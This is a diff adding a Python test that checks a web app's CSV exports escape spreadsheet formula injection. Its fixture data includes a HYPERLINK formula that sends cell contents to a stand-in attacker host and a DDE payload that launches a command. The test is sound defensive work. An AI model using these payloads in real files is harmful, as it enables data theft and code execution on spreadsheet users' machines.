@@ -164,3 +164,34 @@ def test_only_http_links_from_ingested_posts_are_rendered_as_links(engine, bad):
         page = client.get(f"/online/leads/{lead['lead_id']}").text
         assert 'href="javascript' not in page.lower() and 'href="data:' not in page
         assert 'href="java' not in page.lower() and 'href="vbscript' not in page.lower()
+
+
+def test_csv_downloads_neutralise_formulas(engine, session, registry_dir):
+    import csv
+    import datetime as dt
+    import io
+
+    from fastapi.testclient import TestClient
+
+    from centinela.accounts.models import User
+    from centinela.csvsafe import cell
+    from centinela.web.app import create_app
+
+    assert cell("=HYPERLINK(\"http://x\")") == "'=HYPERLINK(\"http://x\")"
+    assert cell("-3") == "-3" and cell("-2+3") == "'-2+3" and cell(5) == 5
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    write_csv(registry_dir, "movements", [GOOD | {"event_id": "@SUM(1+1)", "lot": evil,
+                                                  "quantity": "+cmd|' /C calc'!A0"}])
+    run = import_directory(engine, registry_dir)
+    app = create_app(engine)
+    user = User(username="admin", role="admin", password_hash="x",
+                created_at=dt.datetime(2025, 1, 1))
+    app.state.user_resolver = lambda request, session: user
+    client = TestClient(app, headers={"Authorization": "Bearer t"})
+    for url in (f"/api/v1/imports/{run.import_id}/rejections.csv",
+                f"/imports/{run.import_id}/rejects.csv"):
+        r = client.get(url)
+        assert r.status_code == 200, (url, r.status_code)
+        for line in csv.reader(io.StringIO(r.text)):
+            for value in line:
+                assert not value.startswith(("=", "+", "@")), (url, value)
